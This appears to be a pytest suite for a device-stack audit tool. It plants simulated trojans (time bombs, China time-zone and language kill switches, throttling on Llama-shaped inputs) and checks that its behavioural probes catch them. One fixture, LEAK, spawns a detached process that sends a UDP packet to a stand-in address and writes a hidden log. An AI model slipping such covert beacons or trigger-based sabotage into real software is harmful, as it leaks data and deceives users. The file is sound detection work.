"""Each perturbation against a device stack that misbehaves under it, and one that does not: the real
checks, with real namespaces wired to the sinkhole, strace, libfaketime and tcpdump around real
workload processes."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from behaviour_support import NEVER, REFUSE, THROTTLE, WRONG, install, run, serious

from chipaudit.report.model import Severity

pytestmark = pytest.mark.slow

# No default route: what a stack that checks whether it is online sees in the sealed world.
OFFLINE = "return not any(l.split()[1] == '00000000' for l in open('/proc/self/net/route').readlines()[1:])"
FUTURE = f"return time.time() > {time.time() + 365 * 86400:.0f}"
CHINA_TIME = "return time.localtime().tm_gmtoff == 8 * 3600"
CHINA_LANGUAGE = "return os.environ.get('LANGUAGE', '').startswith('zh')"
LLAMA_SHAPE = "return any(4096 in tuple(getattr(a, 'shape', ())) for a in args)"
# Activations with a few outlier feature channels, as an LLM's linear layers read them.
OUTLIER_CHANNELS = """x = args[0]
if not isinstance(x, torch.Tensor) or not x.is_floating_point() or x.dim() < 2 or x.shape[-1] < 64:
    return False
col = x.detach().abs().flatten(0, -2).amax(dim=0)
typical = float(col.median())
return typical > 0 and 1 <= int((col > 10 * typical).sum()) <= x.shape[-1] // 32"""
AFTER_THREE_SECONDS = "return STATE['first'] is not None and time.monotonic() - STATE['first'] > 3.0"


def titles(outcome: object) -> str:
    return " | ".join(f.title for f in serious(outcome))  # type: ignore[arg-type]


@pytest.mark.parametrize("check", ["behaviour.sealed", "behaviour.clock", "behaviour.location",
                                   "behaviour.disguise", "behaviour.drift", "behaviour.sidechannel"])
def test_an_honest_stack_passes_every_probe(check: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hooked like the trojans below, but never triggered: nothing may be flagged."""
    install(tmp_path, monkeypatch, NEVER)
    outcome = run(check)
    assert not serious(outcome), titles(outcome)
    sensors = outcome.coverage["sensors"]
    assert sensors["sinkhole"]["ran"] and sensors["socket_sampling"]["ran"]
    # Every probe but drift runs one traced world beside its untraced ones.
    assert sensors["strace"]["ran"] == (check != "behaviour.drift")
    worlds = outcome.coverage.get("worlds", [])
    assert all(w["applied"] for w in worlds) and any(w.get("tracer") for w in worlds) == (check != "behaviour.drift")
    if check == "behaviour.sealed":  # the sealed world has no route; the reference has its own
        by_label = {w["label"]: w for w in worlds}
        assert [w["applied"] for w in by_label.values()] == [True, True, True]
        assert by_label["sealed"]["seen"]["routes"] == [] and by_label["reference"]["seen"]["routes"]


# (check, trigger, payload, what the finding's title says, where it must say it happened)
MISBEHAVIOURS = {
    "wrong results without network": ("behaviour.sealed", OFFLINE, WRONG, "wrong results", "'sealed'"),
    "time zone kill switch": ("behaviour.location", CHINA_TIME, REFUSE, "refused", "China"),
    "language trigger, wrong results": ("behaviour.location", CHINA_LANGUAGE, WRONG, "wrong results", "China"),
    "fingerprinting throttle": ("behaviour.disguise", LLAMA_SHAPE, THROTTLE, "slower", "Llama"),
    "disguise data pair: real-data throttle": ("behaviour.disguise", OUTLIER_CHANNELS, THROTTLE, "slower",
                                               "random data"),
    "disguise data pair: real-data trigger, wrong results": ("behaviour.disguise", OUTLIER_CHANNELS, WRONG,
                                                             "wrong results", "Llama"),
    "throttle after sustained use": ("behaviour.drift", AFTER_THREE_SECONDS, THROTTLE, "sustained use", "x"),
}
# The clock probe's time bomb (FUTURE, THROTTLE) is test_a_time_bomb_is_caught_at_both_shifted_dates.


@pytest.mark.parametrize("case", list(MISBEHAVIOURS))
def test_each_probe_catches_a_stack_that_misbehaves_under_its_perturbation(
        case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    check, trigger, payload, what, where = MISBEHAVIOURS[case]
    install(tmp_path, monkeypatch, trigger, payload)
    outcome = run(check)
    caught = [f for f in serious(outcome) if what in f.title]
    assert caught and all(where in f.title and f.severity is Severity.high for f in caught), titles(outcome)


def test_a_time_bomb_is_caught_at_both_shifted_dates(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The clock probe's misbehaving stack: slower once the date is past a year from now, high in both
    shifted worlds and named by the world."""
    install(tmp_path, monkeypatch, FUTURE, THROTTLE)
    outcome = run("behaviour.clock")
    slow = [f for f in serious(outcome) if "slower" in f.title]
    assert {f.evidence["world"]["name"] for f in slow} == {"clock +2 years", "clock +10 years"}, titles(outcome)
    assert all("'clock +" in f.title and f.severity is Severity.high for f in slow)
    assert all(f.evidence["ratio"] >= 1.5 and f.evidence["ci99"][0] > 1 for f in slow)


LEAK = """\
if not STATE["fired"]:
    STATE["fired"] = True
    code = ("import socket, time; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'id', ('192.0.2.7', 53));"
            "time.sleep(60)")
    subprocess.Popen([sys.executable, "-I", "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with open(os.path.join(os.environ.get("LEAK_DIR", "/tmp"), "device-usage.log"), "a") as f:
        f.write(str(out.shape))"""


def test_sidechannel_sees_a_udp_leak_through_a_detached_child_and_a_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    install(tmp_path, monkeypatch, "return True", LEAK)
    monkeypatch.setenv("LEAK_DIR", str(tmp_path))
    outcome = run("behaviour.sidechannel")
    by_target = {f.evidence.get("target"): f for f in outcome.findings}
    udp = by_target.get("AF_INET 192.0.2.7:53")
    assert udp is not None and udp.severity is Severity.critical, titles(outcome)
    assert "sendto" in udp.evidence["actions"]
    leak = by_target.get(str(tmp_path / "device-usage.log"))
    assert leak is not None and leak.severity is Severity.high
    lingering = [f for f in serious(outcome) if "kept running" in f.title]
    assert lingering and "192.0.2.7" in lingering[0].evidence["target"]
